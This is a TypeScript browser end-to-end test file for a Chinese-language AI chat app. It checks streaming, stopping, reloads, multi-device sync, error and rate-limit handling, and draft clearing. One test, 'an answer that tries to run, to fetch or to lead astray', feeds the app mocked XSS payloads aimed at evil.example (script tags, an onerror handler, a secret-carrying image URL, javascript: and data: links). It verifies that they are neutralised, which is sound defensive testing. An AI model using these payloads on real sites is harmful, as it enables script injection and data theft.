import { realQuestions } from "@claw/testing";
import {
  answersOf,
  ask,
  composerOf,
  findChromium,
  golden,
  goldenLine,
  type House,
  openHouse,
  openPage,
  questionsOf,
  register,
  signIn,
  somebody,
} from "@claw/testing/browser";
import { afterAll, beforeAll, describe, expect, test } from "vitest";

const executable = findChromium();

describe.skipIf(executable === null)("in a real browser", () => {
  let house: House;
  const answering: House["answering"] = (answers) => house.answering(answers);

  beforeAll(async () => {
    if (executable) house = await openHouse(executable);
  });
  afterAll(() => house[Symbol.asyncDispose]());

  test("a person registers, asks, watches the answer come, stops another, and finds all of it again, on a second device too", async () => {
    answering({
      比喻: { pieces: ["像一位", "**说书人**", "，流畅", "而不查证。"], holdAfter: 2, usage: golden },
      停: { pieces: ["写到", "一半", "还没写完"], stallAfter: 2 },
      同时: { pieces: ["两处", "都看见"], holdAfter: 1, usage: golden },
    });
    const person = somebody();
    const first = await openPage(house.browser, house.url);
    const { page } = first;
    await register(page, house.url, person);

    await ask(page, "用比喻解释大模型");
    await page.getByText("像一位说书人").waitFor();
    expect(await answersOf(page).last().getAttribute("data-status")).toBe("streaming");
    expect(await page.getByText("而不查证").count()).toBe(0);
    house.provider.release();
    await page.getByText("像一位说书人，流畅而不查证。").waitFor();
    await answersOf(page).last().getByText(goldenLine).waitFor();
    expect(await answersOf(page).last().locator("strong").textContent()).toBe("说书人");
    await page.getByRole("heading", { name: "一个标题" }).waitFor();

    await ask(page, "这次会停下");
    await page.getByText("写到一半").waitFor();
    await page.keyboard.press("Escape");
    await page.getByText("已停止，以上是停止前的内容。").waitFor();
    await house.provider.sawAborts(1);

    await page.reload();
    await answersOf(page).nth(1).getByText("写到一半").waitFor();
    await answersOf(page).first().getByText(goldenLine).waitFor();
    expect(await questionsOf(page).allTextContents()).toEqual(["用比喻解释大模型", "这次会停下"]);

    const second = await openPage(house.browser, house.url);
    await signIn(second.page, house.url, person);
    await second.page.getByRole("link", { name: "一个标题" }).click();
    await answersOf(second.page).first().getByText(goldenLine).waitFor();
    expect(await questionsOf(second.page).allTextContents()).toEqual(
      await questionsOf(page).allTextContents(),
    );

    await ask(page, "同时在两处");
    await questionsOf(second.page).getByText("同时在两处").waitFor();
    await answersOf(second.page).last().getByText("两处").waitFor();
    house.provider.release();
    await answersOf(second.page).last().getByText("两处都看见").waitFor();
    await answersOf(second.page).last().getByText(goldenLine).waitFor();

    expect(first.problems).toEqual([]);
    expect(second.problems).toEqual([]);
  }, 90_000);

  test("an answer goes on while the page is reloaded, and none of it is missing or twice", async () => {
    answering({ 重新载入: { pieces: ["第一段，", "第二段，", "第三段。"], holdAfter: 2, usage: golden } });
    const { page, problems } = await openPage(house.browser, house.url);
    await register(page, house.url, somebody());

    await ask(page, "在重新载入时继续");
    await page.getByText("第一段，第二段，").waitFor();
    await page.reload();
    await page.getByText("第一段，第二段，").waitFor();
    house.provider.release();
    await answersOf(page).getByText(goldenLine).waitFor();

    expect(await answersOf(page).locator(".markdown").textContent()).toBe("第一段，第二段，第三段。");
    expect(problems).toEqual([]);
  });

  test("twenty real questions are answered, each with its exact tokens and cost", async () => {
    answering({});
    const { page, problems } = await openPage(house.browser, house.url);
    await register(page, house.url, somebody());

    for (const [index, question] of realQuestions.entries()) {
      await ask(page, question);
      await answersOf(page).nth(index).getByText(goldenLine).waitFor();
    }

    expect(await questionsOf(page).allTextContents()).toEqual([...realQuestions]);
    expect(problems).toEqual([]);
  }, 90_000);

  test("a provider that fails is explained, and trying again answers in the same place", async () => {
    const { page, problems } = await openPage(house.browser, house.url);
    await register(page, house.url, somebody());
    answering({ 天气: { refuse: { status: 400, body: "<html>oops</html>", type: "text/html" } } });
    await ask(page, "天气如何");
    await page.getByText("没有答成：模型服务出错了，可以再试一次或换一个模型。").waitFor();

    answering({});
    await page.getByRole("button", { name: "重试" }).click();
    await answersOf(page).getByText("好的。").waitFor();

    expect(await answersOf(page).count()).toBe(1);
    expect(await page.getByText("oops").count()).toBe(0);
    expect(problems).toEqual([]);
  });

  test("what the server refuses is not lost: it goes back into the composer with the reason, and is sent once", async () => {
    answering({});
    const { page, problems } = await openPage(house.browser, house.url, { expected: /429/ });
    await register(page, house.url, somebody());
    await ask(page, "第一句");
    await answersOf(page).first().getByText(goldenLine).waitFor();

    const refusal = [{ error: { code: -32029, message: "", data: { reason: "RATE_LIMITED", fields: [] } } }];
    await page.route("**/conversation.send**", (route) => route.fulfill({ status: 429, json: refusal }));
    await ask(page, "被拒绝的一句");
    await page.getByText("没有发出去，内容还在这里。").waitFor();
    expect(await composerOf(page).inputValue()).toBe("被拒绝的一句");

    await page.unroute("**/conversation.send**");
    await composerOf(page).press("Enter");
    await answersOf(page).nth(1).getByText(goldenLine).waitFor();

    expect(await questionsOf(page).allTextContents()).toEqual(["第一句", "被拒绝的一句"]);
    expect(problems).toEqual([]);
  }, 60_000);

  test("an answer that tries to run, to fetch or to lead astray is shown and does nothing", async () => {
    const hostile = [
      "<script>window.isOwned = true</script>",
      '<img src="https://evil.example/a.png" onerror="window.isOwned = true">',
      "![图](https://evil.example/b.png?secret=1)",
      "[点我](javascript:window.isOwned=true)",
      '<iframe src="https://evil.example"></iframe>',
      '<a href="data:text/html,<script>1</script>">资料</a>',
      "[正常的链接](https://example.com/a)",
    ].join("\n\n");
    answering({ 攻击: { pieces: [hostile], usage: golden } });
    const { page, problems } = await openPage(house.browser, house.url);
    await register(page, house.url, somebody());
    await ask(page, "攻击一下");
    await answersOf(page).getByText(goldenLine).waitFor();
    await page.getByRole("link", { name: "正常的链接" }).waitFor();

    const answer = answersOf(page).locator(".markdown");
    expect(await answer.locator("script, img, iframe, object, embed, style, form").count()).toBe(0);
    expect(
      await answer.locator("a").evaluateAll((links) => links.map((link) => link.getAttribute("href"))),
    ).toEqual(["https://evil.example/b.png?secret=1", "https://example.com/a"]);
    expect(await page.getByRole("link", { name: "正常的链接" }).getAttribute("rel")).toBe(
      "noopener noreferrer",
    );
    expect(await page.evaluate(() => "isOwned" in window)).toBe(false);
    expect(problems).toEqual([]);
  });

  test("a draft survives a reload, and signing out leaves none of it on the device", async () => {
    answering({});
    const { page, problems } = await openPage(house.browser, house.url);
    await register(page, house.url, somebody());
    await composerOf(page).fill("写到一半的话");
    await page.reload();
    await composerOf(page).waitFor();
    expect(await composerOf(page).inputValue()).toBe("写到一半的话");

    await page.getByRole("button", { name: /^账号/ }).click();
    await page.getByRole("menuitem", { name: "退出登录" }).click();
    await page.getByRole("heading", { name: "登录" }).waitFor();

    expect(await page.evaluate(() => Object.values(localStorage).join(" "))).not.toContain("写到一半");
    expect(problems).toEqual([]);
  });
});
